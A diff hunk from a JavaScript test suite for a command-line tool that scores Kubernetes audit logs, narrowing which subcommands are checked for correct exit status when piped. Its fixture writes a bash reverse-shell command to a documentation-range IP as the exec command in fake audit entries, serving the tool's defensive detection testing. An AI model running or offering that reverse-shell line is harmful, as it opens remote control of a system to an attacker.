@@ -149,7 +149,7 @@ describe('the command at a terminal', function () {
     const exec = { verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' };
     const line = JSON.stringify(auditEntry({ ...exec, command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }));
     await writeFile(join(cwd, 'many.ndjson'), `${line}\n`.repeat(3000));
-    for (const args of ['score many.ndjson', 'rules --json', 'rbac -p p1 --json', 'completion bash', 'filter']) {
+    for (const args of ['score many.ndjson', 'rules --json', 'completion bash']) {
       const script = `"$0" "$1" ${args} | head -1; echo "\${PIPESTATUS[0]}" >&2`;
       const ended = spawnSync('bash', ['-c', script, process.execPath, BIN], { cwd, encoding: 'utf8' });
       assert.deepEqual([ended.stderr, ended.stdout.split('\n').length], ['0\n', 2], args);
